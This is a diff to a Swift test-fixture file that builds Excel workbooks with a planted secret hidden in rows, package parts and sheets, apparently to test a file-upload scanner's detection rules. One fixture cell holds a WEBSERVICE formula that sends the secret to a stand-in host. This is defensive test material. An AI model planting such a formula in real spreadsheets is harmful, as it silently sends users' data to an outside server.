@@ -2,17 +2,17 @@ import STUpload
 
 /// Hiding places of workbooks, those that the first list leaves out.
 enum SheetMorePlaces {
-  private static let secret = HidingPlace.secret
+  private static let secret = PlantedFile.secret
   private static let sheet = "xl/worksheets/sheet1.xml"
   private static let book = "xl/workbook.xml"
 
-  static let all: [HidingPlace] = inMarkup + inParts
+  static let all: [PlantedFile] = inMarkup + inParts + whole
 
-  private static func place(_ name: String, _ rule: String, _ sample: OfficeSample) -> HidingPlace {
-    HidingPlace(name: name, rule: rule, bytes: sample.bytes())
+  private static func place(_ name: String, _ rule: String, _ sample: OfficeSample) -> PlantedFile {
+    PlantedFile("xlsx/" + name, rule, sample.bytes())
   }
 
-  private static let inMarkup: [HidingPlace] = [
+  private static let inMarkup: [PlantedFile] = [
     place(
       "hidden row", "FIL-244",
       SheetPlaces.make(
@@ -63,7 +63,7 @@ enum SheetMorePlaces {
         cells: "<c r=\"B1\"><f>WEBSERVICE(\"https://example.org/\(secret)\")</f><v>7</v></c>")),
   ]
 
-  private static let inParts: [HidingPlace] = ofParts.map { row in
+  private static let inParts: [PlantedFile] = ofParts.map { row in
     var sample = SheetPlaces.make()
     sample.add("xl/" + row.part, row.type, "<x>\(secret)</x>")
     sample.relate(row.source, "rId9", row.kind, "/xl/" + row.part)
@@ -94,7 +94,7 @@ enum SheetMorePlaces {
 
   // MARK: Told and stopped
 
-  static let whole: [PlantedFile] =
+  private static let whole: [PlantedFile] =
     [
       PlantedFile(
         "xlsx/hidden sheet that is counted with", "FIL-243",
